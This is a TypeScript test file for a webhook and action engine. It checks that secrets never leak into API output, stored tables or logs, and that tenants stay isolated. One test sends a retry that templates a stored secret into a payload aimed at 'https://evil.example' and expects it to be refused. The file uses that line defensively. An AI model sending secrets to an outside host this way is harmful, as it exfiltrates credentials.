// Values that nobody may see, sent through all that shows, stores and tells a failure; and what keys with few scopes, or
// of another tenant, come to.
import { runInDurableObject } from "cloudflare:test";
import { afterEach, expect, test, vi } from "vitest";
import { alertGroups } from "#policy/advice/alerts.ts";
import { plainRow } from "#test/durable-objects/plain-row.ts";
import type { Parsed } from "#test/support/api.ts";
import { sha256 } from "#services/hash.ts";
import { bindings, engine, provider, PROVIDER, until, type Engine } from "./engine.ts";

Object.assign(bindings, { SECRETS_KEYS: `k1:${btoa("k".repeat(32))}` });
afterEach(() => vi.unstubAllGlobals());

const CANARIES = ["canary-of-the-header", "canary-of-the-body", "canary-of-the-channel"] as const;
const WRITTEN = ["canary-in-query", "canary-in-header", "canary-in-field"] as const;
const [SECRET, BODY, CHANNEL] = CANARIES;
const [QUERY, HEADER, FIELD] = WRITTEN;

const failing = {
  type: "webhook",
  actionId: "leak",
  priority: 95,
  retryPolicy: { maxAttempts: 1 },
  config: {
    url: `${PROVIDER}/leak?api_key=${QUERY}`,
    headers: { "X-Custom": "{{ secrets.one }}", "X-Api-Key": HEADER },
    payload: { note: "{{ secrets.two }}", password: FIELD },
  },
};

async function leaking(): Promise<{ readonly here: Engine; readonly letter: Parsed; readonly logged: string[] }> {
  const logged: string[] = [];
  for (const level of ["log", "warn", "error", "info"] as const) {
    vi.spyOn(console, level).mockImplementation((...said: unknown[]) => void logged.push(said.map(String).join(" ")));
  }
  // It says back all that it was told.
  provider(
    ({ url, headers, body }) => new Response(`${url.href} ${JSON.stringify([...headers])} ${body}`, { status: 422 }),
  );
  const here = await engine();
  await here.must(200, "PUT", "/v1/secrets/one", { body: { value: SECRET } });
  await here.must(200, "PUT", "/v1/secrets/two", { body: { value: BODY } });
  await here.must(200, "PUT", "/v1/secrets/three", { body: { value: CHANNEL } });
  const config = {
    url: `${PROVIDER}/ops/{{ secrets.three }}?token=${QUERY}`,
    headers: { Authorization: `Bearer ${HEADER}` },
  };
  await here.must(201, "POST", "/v1/alert-channels", { body: { name: "ops", channel: { kind: "webhook", config } } });
  await here.must(201, "POST", "/v1/actions", { body: failing });
  const letters = await until("both letters", async () => {
    const { data } = await here.must(200, "GET", "/v1/dead-letters");
    return data.length > 1 ? data : null;
  });
  return { here, logged, letter: letters.find(({ actionId }: Parsed) => actionId === "leak") };
}

/** Everything the API shows of it. */
async function shownBy(here: Engine, letters: readonly Parsed[]): Promise<string> {
  const lists = ["dead-letters", "actions", "executions", "executions?namespace=alerts", "alert-channels", "audit"];
  const ones = letters.flatMap(({ id, execution: of }) => [
    ...[`dead-letters/${id}`, `actions/${of}`, `executions/${of}`],
    ...[`executions/${of}/runs`, `executions/${of}/journal`],
  ]);
  const answers = [...lists, "operations", ...ones].map((path) => here.must(200, "GET", `/v1/${path}`));
  return JSON.stringify(await Promise.all(answers));
}

async function tables(storage: { all: (sql: string) => Promise<readonly Parsed[]> }): Promise<string> {
  const names = await storage.all(
    "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '\\_cf%' ESCAPE '\\'",
  );
  const rows = await Promise.all(names.map(({ name }) => storage.all(`SELECT * FROM "${name}"`)));
  return JSON.stringify(rows);
}

test("no secret is shown, stored, logged or told, and no written credential shown", async () => {
  const { here, letter, logged } = await leaking();
  const both = (await here.must(200, "GET", "/v1/dead-letters")).data;
  const begun = await here.must(202, "POST", "/v1/dead-letters/retry-all", { body: { filter: {}, reason: "again" } });
  await until("it has ended", async () => {
    const { status } = await here.must(200, "GET", `/v1/operations/${begun.operation.id}`);
    return status === "done" || null;
  });
  const tried = await here.must(200, "POST", "/v1/actions/test", {
    body: { action: failing, mocks: [{ status: 422 }] },
  });
  const shown = (await shownBy(here, both)) + JSON.stringify(tried);
  expect(letter.error.code).toBe("http_422");
  for (const canary of [...CANARIES, ...WRITTEN]) expect.soft(shown, canary).not.toContain(canary);

  const catalog = await tables({ all: async (sql) => (await bindings.DB.prepare(sql).all()).results });
  expect(catalog).toContain(letter.execution);
  const cells = await Promise.all(
    both.map(({ execution }: Parsed) =>
      runInDurableObject(here.stub(execution), (_cell, { storage }) =>
        tables({ all: async (sql) => storage.sql.exec(sql).toArray().map(plainRow) }),
      ),
    ),
  );
  expect(cells.join()).toContain("X-Custom");
  expect(logged.join()).toContain('"event":"alert"');
  for (const canary of CANARIES) {
    expect.soft(catalog, canary).not.toContain(canary);
    expect.soft(cells.join(), canary).not.toContain(canary);
    expect.soft(logged.join(), canary).not.toContain(canary);
  }
  for (const canary of WRITTEN) expect.soft(logged.join(), canary).not.toContain(canary);
});

test("whoever may only repeat what was written cannot send a secret elsewhere", async () => {
  const { here, letter } = await leaking();
  const made = await here.must(201, "POST", "/v1/keys", { body: { name: "ops", scopes: ["read", "operate"] } });
  const headers = { Authorization: `Bearer ${made.secret}` };
  const body = { config: { url: "https://evil.example", payload: "{{ secrets.one }}" } };
  const paths = [`/v1/dead-letters/${letter.id}/retry`, `/v1/actions/${letter.execution}/retry`];
  for (const path of paths) {
    expect((await here.must(403, "POST", path, { body, headers })).errors).toMatchObject([{ pointer: "/config" }]);
  }
  const run = { ...body, run: letter.run };
  await here.must(403, "POST", `/v1/executions/${letter.execution}/retry`, { body: run, headers });
  await here.must(200, "POST", `${paths[0]}?dryRun=true`, { body: { variables: { a: 1 } }, headers });
  await here.must(200, "POST", `${paths[0]}?dryRun=true`, { body });
});

test("nobody keeps an alert from being sent by using its key first", async () => {
  const { calls } = provider(({ url }) => new Response("{}", { status: url.pathname === "/ops" ? 200 : 401 }));
  const here = await engine();
  const channel = { kind: "webhook", config: { url: `${PROVIDER}/ops` } };
  const { id } = await here.must(201, "POST", "/v1/alert-channels", {
    body: { name: "ops", channel, throttle: "PT12H" },
  });
  const [group] = alertGroups(
    [
      {
        severity: "critical",
        code: "action_failed",
        definition: "$action",
        action: "leak",
        failedAt: Date.now(),
        tenant: here.tenant,
        namespace: "default",
        execution: "exe_1",
        correlationId: null,
        run: "1.0",
        attempts: 1,
        errorType: null,
        errorCode: null,
        error: null,
      },
    ],
    12 * 60 * 60_000,
  );
  const key = `alert:${id}:${(await sha256(group?.identity ?? "")).slice(0, 32)}:${group?.bucket}`;
  const decoy = { type: "webhook", config: { url: `${PROVIDER}/decoy` }, delay: "P1D" };
  await here.must(201, "POST", "/v1/actions", { body: decoy, headers: { "Idempotency-Key": key } });
  await here.must(201, "POST", "/v1/actions", { body: { ...failing, config: { url: `${PROVIDER}/leak` } } });
  await until("the alert", () => calls.find(({ url }) => url.pathname === "/ops") ?? null, 10_000);
});

test("another tenant's dead letters, operations, channels and keys are nobody's", async () => {
  const { here, letter } = await leaking();
  const [channel] = (await here.must(200, "GET", "/v1/alert-channels")).data;
  const keyed = { headers: { "Idempotency-Key": "the-same" } };
  const body = { filter: { execution: letter.execution } };
  const mine = await here.must(202, "POST", "/v1/dead-letters/archive-all", { body, ...keyed });
  const other = await engine();
  for (const path of [
    ...[`/v1/dead-letters/${letter.id}`, `/v1/actions/${letter.execution}`, `/v1/operations/${mine.operation.id}`],
    ...[`/v1/alert-channels/${channel.id}`, `/v1/executions/${letter.execution}/journal`],
  ])
    await other.must(404, "GET", path);
  await other.must(404, "POST", `/v1/dead-letters/${letter.id}/retry`, { body: {} });
  await other.must(404, "POST", `/v1/dead-letters/${letter.id}/archive`, { body: {} });
  await other.must(404, "POST", `/v1/operations/${mine.operation.id}/abort`, { body: {} });
  await other.must(404, "POST", `/v1/alert-channels/${channel.id}/test`, { body: {} });
  const theirs = await other.must(202, "POST", "/v1/dead-letters/archive-all", { body, ...keyed });
  expect(theirs).toMatchObject({ repeated: false, operation: { progress: { matched: 0 } } });
  const same = { ...failing, config: { url: `${PROVIDER}/x` }, dedupKey: "same" };
  const ids = new Set<string>();
  for (const each of [here, other, other]) {
    const asked = await each.must(each === other && ids.size === 2 ? 200 : 201, "POST", "/v1/actions", { body: same });
    ids.add(asked.action.id);
  }
  expect(ids.size).toBe(2);
});
